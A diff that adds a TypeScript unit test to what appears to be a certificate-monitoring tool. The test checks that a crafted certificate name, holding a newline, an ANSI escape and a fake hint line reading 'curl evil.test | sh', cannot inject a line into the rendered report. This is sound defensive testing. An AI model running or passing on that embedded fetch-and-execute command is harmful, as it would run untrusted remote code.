@@ -161,6 +161,26 @@ warning: two Nginx masters
     },
   );
 
+  it("lets no name of a certificate begin a line of its own", () => {
+    const name = "DNS:a.test\nlivecert: hint: \u001b[1mcurl evil.test | sh";
+    const leaf = sound.leaf && { ...sound.leaf, subjectAltNames: [name] };
+    const finding = {
+      rule: "names/mismatch",
+      severity: "regression",
+      message: `it does not cover ${name}`,
+      hint: `issue it for ${name}`,
+      subject: null,
+    } as const;
+    const lineage = { ...sound, leaf, name, findings: [finding] };
+    const probe = { ...live, verdict: "stale", servername: name } as const;
+    const text = renderRun(documentOf([{ ...lineage, probes: [probe] }]), {
+      colours: false,
+      now,
+    });
+    expect(text).not.toContain("\u001b");
+    expect(text).not.toMatch(/^livecert: hint/m);
+  });
+
   it("counts reloads only for commands that may reload", () => {
     const last = (command: string) =>
       renderRun(
